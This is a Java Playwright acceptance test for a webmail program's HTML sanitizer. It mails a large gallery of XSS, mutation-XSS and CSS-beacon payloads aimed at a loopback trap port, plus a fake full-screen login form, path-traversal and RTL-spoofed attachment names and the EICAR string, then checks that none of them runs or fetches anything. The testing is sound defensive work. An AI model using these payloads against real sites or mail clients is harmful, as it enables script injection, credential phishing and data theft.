package io.carteggio.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Download;
import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/// Mail that means harm, in a real Chromium. Each letter would load something from a port where we listen, and
/// would say so by a title or a dialog if anything of it ran. Nothing runs, nothing is asked for, each page is
/// shown, and the browser has nothing to report: what does harm is taken out before it gets there.
@Tag("peers")
class HostileGalleryTest {
    /// What nobody may see, wherever a script may get.
    private static final String RUN =
            "document.title='CANARY';try{top.document.title='CANARY'}catch(e){}alert('CANARY');fetch('TRAP/run')";

    private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    private static Optional<Stage> started = Optional.empty();
    private static Optional<ServerSocket> trap = Optional.empty();
    private static final List<String> CAUGHT = new ArrayList<>(); // guarded by itself

    @BeforeAll
    static void start() throws Exception {
        started = Optional.of(Stage.firm());
        ServerSocket socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        trap = Optional.of(socket);
        Thread.ofVirtual().start(() -> listen(socket));
    }

    private static void listen(ServerSocket socket) {
        while (!socket.isClosed()) {
            try (var caught = socket.accept()) {
                synchronized (CAUGHT) {
                    CAUGHT.add(caught.getRemoteSocketAddress().toString());
                }
            } catch (IOException closed) {
                // the test is over
            }
        }
    }

    @AfterAll
    static void stop() throws IOException {
        if (trap.isPresent()) {
            trap.get().close();
        }
    }

    private static Stage stage() {
        return started.orElseThrow();
    }

    /// A letter that means harm.
    ///
    /// @param shown what its page must show of it
    private record Hostile(String name, String html, String shown) {}

    private static String trapped(String text) {
        return text.replace("RUN", RUN)
                .replace("TRAP", "http://127.0.0.1:" + trap.orElseThrow().getLocalPort());
    }

    private static List<Hostile> gallery() {
        String good = "<p>These words do no harm.</p>";
        String shown = "These words do no harm.";
        List<Hostile> all = new ArrayList<>();
        all.add(new Hostile("scripts", """
                <script>RUN</script><ScRiPt src=TRAP/s.js></ScRiPt><script/x>RUN</script><<script>RUN//<</script>
                <img src=x onerror="RUN"><img src="x` `"onerror=RUN><img/src=x/onerror=RUN><image src=x onerror=RUN>
                <body onload="RUN" onpageshow=RUN background=TRAP/b.png><svg onload="RUN"><details open ontoggle="RUN">x</details>
                <video><source onerror="RUN"></video><audio src=TRAP/a.mp3 onerror=RUN autoplay></audio><video poster=TRAP/p.png>
                </video><marquee onstart="RUN">x</marquee><input autofocus onfocus="RUN"><select autofocus onfocus=RUN></select>
                <iframe srcdoc="<script>RUN</script>"></iframe><iframe src=TRAP/f></iframe><frameset><frame src=TRAP/fr></frameset>
                <object data=TRAP/o></object><embed src=TRAP/e><applet code=x archive=TRAP/j></applet><bgsound src=TRAP/bg>
                <noscript><p title="</noscript><img src=x onerror=RUN>"></noscript><scr\u0000ipt>RUN</scr\u0000ipt>
                <!--[if gte IE 4]><script>RUN</script><![endif]--><![CDATA[<script>RUN</script>]]><?xml-stylesheet href="TRAP/x"?>
                <template><script>RUN</script></template><portal src=TRAP/po></portal><dialog open onclose=RUN>x</dialog>
                <button popovertarget=x onclick=RUN>y</button><div id=x popover onbeforetoggle=RUN>z</div>&lt;script&gt;RUN&lt;/script&gt;
                <div contenteditable onblur=RUN style=animation-name:x onanimationstart=RUN ontransitionend=RUN>a</div>""" + good, shown));
        all.add(new Hostile("addresses", """
                <a href="javascript:RUN">a</a><a href="JaVaScRiPt:RUN">b</a><a href=" &#14; javascript:RUN">c</a>
                <a href="java&#115;cript:RUN">d</a><a href="java&#x0A;script:RUN">e</a><a href="java\tscript:RUN">f</a>
                <a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58RUN">g</a><a href="javascript&colon;RUN">h</a>
                <a href="vbscript:RUN">i</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">j</a>
                <a href="//127.0.0.1/x">k</a><a href="file:///etc/passwd">l</a><a href="view-source:x">m</a><a href="blob:x">n</a>
                <a href="https://firm.example/good" ping="TRAP/ping" download onclick=RUN>o</a><base href="TRAP/">
                <a href="relative">p</a><area href="javascript:RUN"><map name=m><area href=TRAP></map>
                <form action="javascript:RUN"><button formaction="javascript:RUN">q</button></form><q cite="javascript:RUN">r</q>""" + good, shown));
        all.add(new Hostile("styles", """
                <style>@import url(TRAP/i.css);@import 'TRAP/j.css';body{background:url(TRAP/1)}input[value^=a]{background:url(TRAP/2)}
                @font-face{font-family:x;src:url(TRAP/f.woff)}*{font-family:x;cursor:url(TRAP/c),auto}p::before{content:url(TRAP/3)}
                @namespace url(TRAP/n);@media all{p{list-style:url(TRAP/l)}}@property --x{syntax:'*';inherits:false;initial-value:url(TRAP/p)}</style>
                <link rel=stylesheet href=TRAP/s.css><link rel=prefetch href=TRAP/p><link rel=preload as=image href=TRAP/q><link rel=dns-prefetch
                href=//trap.example><link rel=preconnect href=TRAP><link rel=modulepreload href=TRAP/m.js><link rel=icon href=TRAP/i.ico>
                <p style="background:url(TRAP/4)">a</p><p style="background:\\75 rl(TRAP/5)">b</p><p style="background:u\\72l('TRAP/6')">c</p>
                <p style="background-image:image-set('TRAP/7' 1x)">d</p><p style="width:expression(RUN)">e</p>
                <p style="-moz-binding:url(TRAP/8#x)">f</p><p style="behavior:url(TRAP/9)">g</p><p style="list-style-image:url(TRAP/10)">h</p>
                <p style="cursor:url(TRAP/11)">i</p><p style="border-image:url(TRAP/12)">j</p><p style="filter:url(TRAP/13#x)">k</p>
                <p style="mask:url(TRAP/14);shape-outside:url(TRAP/15);clip-path:url(TRAP/16#x);offset-path:url(TRAP/17)">l</p>
                <p style="background:/*x*/url/**/(TRAP/18)">m</p><p style='font-family:"};background:url(TRAP/19)'>n</p>
                <p style="--x:url(TRAP/20);background:var(--x)">o</p><p style="content:attr(x);background:src(TRAP/21)">p</p>""" + good, shown));
        all.add(new Hostile("meta", """
                <html manifest=TRAP/m><head><meta http-equiv=refresh content="0;url=TRAP/r"><meta http-equiv="refresh" content="0;javascript:RUN">
                <meta http-equiv=Set-Cookie content="carteggio=stolen"><meta http-equiv=Content-Security-Policy content="default-src *">
                <base href=TRAP/ target=_top><title>CANARY</title></head><body>""" + good, shown));
        all.add(new Hostile("svg", """
                <svg xmlns="http://www.w3.org/2000/svg"><script>RUN</script><script href=TRAP/s.js></script><image href=TRAP/i xlink:href=TRAP/j />
                <foreignObject><body onload=RUN><iframe src=TRAP/f></iframe><img src=TRAP/g></body></foreignObject><use href="TRAP/u.svg#x"/>
                <use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknIC8+PC9zdmc+#x"/>
                <a><animate attributeName=href values=javascript:RUN /><text>x</text></a><set onbegin=RUN attributeName=x />
                <feImage href=TRAP/fe /><style>@import url(TRAP/st);</style><animate onbegin=RUN attributeName=x dur=1s></svg>
                <img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/%3E"><img src=TRAP/x.svg>
                <img srcset="TRAP/1 1x, TRAP/2 2x" src=TRAP/3 lowsrc=TRAP/4 dynsrc=TRAP/5 longdesc=TRAP/6 usemap=TRAP/7>
                <picture><source srcset=TRAP/8><img src=cid:none></picture><table background=TRAP/9><td background=TRAP/10>x</table>""" + good, shown));
        all.add(new Hostile("namespaces", """
                <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;"></table></mtext></math>
                <svg></p><style><a id="</style><img src=1 onerror=RUN>"></a></style></svg>
                <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN></style></mglyph></form></mtext></math>
                <noscript><style></noscript><img src=x onerror="RUN"></style><svg><style>&lt;img src=x onerror=RUN&gt;</style></svg>
                <select><style></select><img src=x onerror=RUN></style></select><math href="javascript:RUN">x</math>
                <math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math><svg><desc><img src=x onerror=RUN></desc></svg>
                <svg><title><style><img title="</style><img src=x onerror=RUN>"></title></svg><math><mi><![CDATA[<img src=x onerror=RUN>]]></mi></math>
                <listing>&lt;img src=x onerror=RUN&gt;</listing><a title="</a><img src=x onerror=RUN>">a</a><b title='"><img src=x onerror=RUN>'>b</b>""" + good, shown));
        all.add(new Hostile(
                "raw texts",
                good
                        + "<xmp><img src=x onerror=RUN></xmp><textarea></textarea><img src=x onerror=RUN></textarea><title><img src=x onerror=RUN></title>"
                        + "<iframe><img src=x onerror=RUN></iframe><noembed><img src=x onerror=RUN></noembed><plaintext><img src=x onerror=RUN>",
                shown));
        all.add(new Hostile("forms and a false log-in", """
                <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff" class="card narrow" id="log-in-form">
                <h1>Log in</h1><form method=post action=TRAP/login id=f target=_top><label>Password <input name=password type=password autofocus></label>
                <input type=image src=TRAP/i.png><button type=submit formaction=TRAP/b>Log in</button><input type=hidden name=token>
                <keygen><isindex action=TRAP/ii prompt=x></form><input form=f formaction=TRAP/c type=submit></div>
                <div style="position:absolute;inset:0;transform:scale(9);margin:-999px;opacity:0"><a href="TRAP/over">over everything</a></div>""" + good, shown));
        all.add(new Hostile(
                "left open",
                good
                        + "<p><b><i><a href='https://firm.example/x\" onclick=RUN title='><table><tr><td><div style='color:red<ul><li><blockquote><!-- <img src='TRAP/o",
                shown));
        all.add(new Hostile("a table of 20,000 rows", good + "<table>" + "<tr><td>a<td>b".repeat(20_000), shown));
        all.add(new Hostile(
                "10,000 deep", good + "<div><table><tr><td>".repeat(10_000) + "<script>RUN</script>", shown));
        all.add(new Hostile(
                "ten megabytes", good + "<p>long and dull</p>".repeat(500_000) + "<script>RUN</script>", shown));
        all.add(new Hostile(
                "what is not seen",
                "<p>Pay\u200b\u200c\u200d\ufeff\u2060 to \u202egnp.exe\u202c</p><p style='font-size:0;color:#fff;display:none'>hidden</p>"
                        + good,
                shown));
        return all;
    }

    private static Post letter(int number, Hostile hostile) {
        String mail = "From: =?utf-8?Q?=3Cscript=3Ealert(1)=3C/script=3E?= <anna@firm.example>\r\n"
                + "To: bruno@firm.example\r\nSubject: Gallery " + number + " " + hostile.name()
                + " <script>alert(1)</script> =?utf-8?Q?=E2=80=AEx?=\r\nMessage-ID: <gallery" + number
                + "@firm.example>\r\nDate: Tue, 17 Mar 2026 09:12:00 +0000\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
                + trapped(hostile.html()).replace("\r\n", "\n").replace("\n", "\r\n");
        return new Post(
                "anna@firm.example",
                "Gallery",
                "<gallery" + number + "@firm.example>",
                List.of("To: bruno@firm.example"),
                mail.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void nothingRunsNothingIsFetchedAndEachIsShown() throws Exception {
        List<Hostile> gallery = gallery();
        Post[] posts = new Post[gallery.size()];
        for (int i = 0; i < posts.length; i++) {
            posts[i] = letter(i, gallery.get(i));
        }
        stage().send(posts);
        stage().program().awaitIndexed();
        List<String> ids = ids(posts.length);
        Page page = stage().logIn("Bruno Conti");
        for (int i = 0; i < posts.length; i++) {
            Hostile hostile = gallery.get(i);
            String id = ids.get(i);
            page.navigate(stage().url() + "/letters/" + id);
            FrameLocator frame = page.frameLocator("#html");
            assertThat(frame.locator("p:has-text('" + hostile.shown() + "')")
                            .first()
                            .isVisible())
                    .as(hostile.name())
                    .isTrue();
            assertThat(page.title()).as(hostile.name()).doesNotContain("CANARY").contains("Gallery");
            assertThat(page.textContent("#subject")).as(hostile.name()).contains("Gallery " + i, "<script>");
            Locator never = frame.locator(
                    "script, iframe, frame, object, embed, form, input, button, select, textarea, link, base, svg, math, "
                            + "body meta, body style, [onload], [onerror], [onclick], [ontoggle], [onfocus], [style*=position], [style*=url]");
            assertThat(never.count()).as(hostile.name()).isZero();
            for (Locator link : frame.locator("a[href]").all()) {
                assertThat(link.getAttribute("href")).as(hostile.name()).matches("(?i)(https?://|mailto:).*");
                assertThat(link.getAttribute("rel")).as(hostile.name()).contains("noopener", "noreferrer");
                assertThat(link.getAttribute("ping")).as(hostile.name()).isNull();
            }
            if (i < 9) {
                stage().look(page, "gallery " + hostile.name());
                stage().save(page, "gallery-" + i);
            }
            assertThat(stage().foreign()).as(hostile.name()).isEmpty();
            assertThat(stage().faults()).as(hostile.name()).isEmpty();
        }
        page.context().close();
        synchronized (CAUGHT) {
            assertThat(CAUGHT).as("somebody came to where we listen").isEmpty();
        }
        stage().assertNoFault();
    }

    /// The ids of the letters, by the number in their subjects.
    private static List<String> ids(int count) {
        String[] ids = new String[count];
        for (JsonNode line : stage().program().search("Bruno Conti", "subject:gallery")) {
            String[] words = line.path("subject").asString("").split(" ", 3);
            if (words.length == 3 && words[1].matches("[0-9]+")) {
                ids[Integer.parseInt(words[1])] = line.path("id").asString("");
            }
        }
        return List.of(ids);
    }

    /// Names that mean harm, and a file that every scanner knows: they come out as they are, under names that are only
    /// names.
    @Test
    void filesComeOutUnderHarmlessNames() throws Exception {
        List<String> names = List.of(
                "../../../etc/passwd",
                "C:\\\\windows\\\\system32\\\\x.exe",
                "a\u202egpj.exe",
                "con.txt",
                "<img src=x onerror=alert(1)>.txt",
                "x\u0000y.txt",
                ".htaccess",
                "n".repeat(3_000) + ".txt",
                "eicar.com");
        StringBuilder mail = new StringBuilder("""
                From: anna@firm.example
                To: bruno@firm.example
                Subject: Gallery of files
                Message-ID: <files@firm.example>
                Date: Tue, 17 Mar 2026 09:12:00 +0000
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary=b

                --b
                Content-Type: text/plain

                files
                """);
        for (String name : names) {
            mail.append("--b\nContent-Type: text/html; x=\"\nContent-Disposition: attachment;\n filename=\"")
                    .append(name)
                    .append("\"\n\n")
                    .append(EICAR)
                    .append("\n");
        }
        mail.append("--b--\n");
        stage().send(new Post(
                "anna@firm.example",
                "Gallery of files",
                "<files@firm.example>",
                List.of("To: bruno@firm.example"),
                mail.toString().replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8)));
        stage().program().awaitIndexed();
        String id = stage().program()
                .find("Bruno Conti", "subject:\"gallery of files\"")
                .orElseThrow();
        Page page = stage().logIn("Bruno Conti");
        page.navigate(stage().url() + "/letters/" + id);
        stage().picture(page, "gallery-files");
        List<Locator> files = page.locator("#attachments a[download]").all();
        assertThat(files).hasSize(names.size());
        for (Locator file : files) {
            Download download = page.waitForDownload(file::click);
            assertThat(download.suggestedFilename())
                    .doesNotContain("/", "\\", "\u202e", "<", ">", ":", "\u0000")
                    .doesNotStartWith(".")
                    .hasSizeLessThan(200)
                    .isNotBlank();
            assertThat(Files.readString(download.path(), StandardCharsets.US_ASCII))
                    .isEqualTo(EICAR);
        }
        page.context().close();
        stage().assertNoFault();
    }
}
